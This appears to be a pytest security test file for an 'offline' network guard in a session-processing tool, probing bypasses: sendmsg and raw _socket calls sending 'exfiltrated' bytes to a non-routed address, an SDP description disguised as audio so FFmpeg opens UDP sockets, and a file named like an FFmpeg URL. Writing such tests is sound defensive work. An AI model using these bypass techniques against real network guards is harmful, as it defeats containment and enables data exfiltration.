"""Attack: reach the network while a session is processed offline (issue 17, finding 11).

* around the guard: ``sendmsg`` with an address, and the C ``_socket`` module under ``socket``;
* through FFmpeg: an "audio" upload that is really an SDP description makes the RTP demuxer open UDP
  sockets in C, where no Python guard sees them; a path FFmpeg would read as a URL;
* and the guard must not be a denial of service: another thread's connection to its own Redis keeps
  working while one import runs offline, yet no other thread reaches the internet.
"""

from __future__ import annotations

import _socket
import socket
import threading
from pathlib import Path

import pytest

from sessionlens.errors import NetworkRefusedError, UnsupportedFormatError
from sessionlens.ingest import audio
from sessionlens.offline import offline

OUTSIDE = ("192.0.2.10", 9)  # TEST-NET-1: never routed
SDP = (b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
       b"m=audio 47011 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n")


def test_network_sendmsg_to_an_address_is_refused_and_recorded() -> None:
    with offline() as guard, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        with pytest.raises(NetworkRefusedError):
            s.sendmsg([b"exfiltrated"], [], 0, OUTSIDE)
    assert guard.attempts and guard.attempts[0].startswith("sendmsg")


def test_network_the_c_socket_module_is_guarded_too() -> None:
    with offline() as guard:
        raw = _socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            with pytest.raises(NetworkRefusedError):
                raw.sendto(b"exfiltrated", OUTSIDE)
            with pytest.raises(NetworkRefusedError):
                raw.connect(OUTSIDE)
        finally:
            raw.close()
        with pytest.raises(NetworkRefusedError):
            _socket.getaddrinfo("example.org", 80)
    assert len(guard.attempts) == 3
    assert _socket.socket.__module__ == "_socket" and _socket.socket.connect is not None  # restored after


def _udp_ports() -> set[int]:
    ports = set()
    for line in Path("/proc/net/udp").read_text().splitlines()[1:]:
        ports.add(int(line.split()[1].split(":")[1], 16))
    return ports


def test_network_an_sdp_upload_does_not_make_ffmpeg_open_sockets() -> None:
    before = 47011 in _udp_ports()
    with pytest.raises(UnsupportedFormatError):
        audio.probe(SDP)
    assert not before and 47011 not in _udp_ports()


def test_network_a_path_is_never_read_as_a_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file named like an FFmpeg URL is read as the file it is (here: not audio), not as the URL."""
    wav = tmp_path / "real.wav"
    import wave

    with wave.open(str(wav), "wb") as w:
        w.setnchannels(1), w.setsampwidth(2), w.setframerate(16000), w.writeframes(b"\0\0" * 1600)
    monkeypatch.chdir(tmp_path)
    trap = tmp_path / f"file:{wav}"  # a relative name FFmpeg would open as file:<the wav>
    trap.parent.mkdir(parents=True, exist_ok=True)
    trap.write_bytes(b"this is a transcript, not audio\n")
    with pytest.raises(UnsupportedFormatError):
        audio.probe(trap.relative_to(tmp_path))  # "file:/tmp/.../real.wav", relative to the working directory


def test_network_other_threads_keep_loopback_services_but_not_the_internet() -> None:
    result: dict[str, str] = {}

    def other_request() -> None:
        try:
            with socket.create_connection(("127.0.0.1", 6379), timeout=2) as s:  # its own Redis
                s.sendall(b"PING\r\n")
                result["redis"] = s.recv(16).decode().strip()
        except Exception as exc:  # noqa: BLE001
            result["redis"] = type(exc).__name__
        try:
            socket.create_connection(OUTSIDE, timeout=1)
            result["internet"] = "reached"
        except NetworkRefusedError:
            result["internet"] = "refused"
        except OSError:
            result["internet"] = "reached"  # it got as far as trying: the guard let it through

    with offline() as guard:
        t = threading.Thread(target=other_request)
        t.start()
        t.join()
        with pytest.raises(NetworkRefusedError):  # the guarded thread itself: nothing, not even loopback
            socket.create_connection(("127.0.0.1", 6379), timeout=2)
    assert result == {"redis": "+PONG", "internet": "refused"}
    assert any("192.0.2.10" in a for a in guard.attempts)
